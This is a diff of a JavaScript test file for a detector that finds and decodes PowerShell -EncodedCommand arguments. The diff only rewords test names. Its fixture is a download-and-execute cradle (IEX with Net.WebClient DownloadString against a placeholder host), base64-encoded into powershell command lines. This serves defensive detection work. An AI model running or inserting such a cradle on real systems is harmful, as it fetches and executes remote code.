@@ -5,7 +5,7 @@ const SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://x/')"
 const BASE64 = Buffer.from(SCRIPT, 'utf16le').toString('base64')
 const WORD = 'EncodedCommand'
 
-it('reads -EncodedCommand in each of its abbreviations, whatever the case', () => {
+it('reads -EncodedCommand in each of its abbreviations, in any case', () => {
   for (let length = 1; length <= WORD.length; length++) {
     for (const word of [WORD.slice(0, length), WORD.slice(0, length).toUpperCase()])
       expect(encodedCommand(`powershell.exe -NoP -${word} ${BASE64}`), word).toBe(SCRIPT)
@@ -27,7 +27,7 @@ it.each([
   expect(encodedCommand(line)).toBe(SCRIPT)
 })
 
-it('reads what is there of a command line that was cut off', () => {
+it('reads the rest of a command line that was cut off', () => {
   expect(encodedCommand(`powershell -enc ${BASE64.slice(0, 41)}`)).toBe(SCRIPT.slice(0, 15))
 })
 
@@ -47,11 +47,11 @@ it.each([
   `powershell -encodedcommandx ${BASE64}`,
   'powershell -e abcdefghijklmnop',
   'powershell -enc not base64 at all',
-])('finds none in %s', line => {
+])('finds no encoded command in %s', line => {
   expect(encodedCommand(line)).toBeUndefined()
 })
 
-it('takes no longer for a line of a megabyte that is nothing of the kind', () => {
+it('takes linear time for a line of a megabyte without an encoded command', () => {
   expect(encodedCommand(` -e${' -enc'.repeat(200_000)}`)).toBeUndefined()
   expect(encodedCommand(` -e${' '.repeat(1_000_000)}`)).toBeUndefined()
 })
